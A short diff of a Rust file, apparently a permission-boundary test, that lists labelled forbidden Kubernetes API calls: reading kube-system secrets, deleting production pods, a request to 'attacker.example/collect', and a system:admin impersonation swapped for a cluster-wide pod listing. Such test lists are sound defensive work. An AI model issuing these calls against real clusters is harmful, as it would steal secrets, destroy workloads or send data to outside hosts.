@@ -11,7 +11,7 @@ const ATTEMPTS: [(&str, &str); 4] = [
     ("read-secrets", "GET /api/v1/namespaces/kube-system/secrets"),
     ("delete-pods", "DELETE /api/v1/namespaces/production/pods"),
     ("another-host", "GET https://attacker.example/collect"),
-    ("another-identity", "GET …/pods with Impersonate-User: system:admin"),
+    ("every-namespace", "GET /api/v1/pods"),
 ];
 
 /// An attempt, and how the call ended.
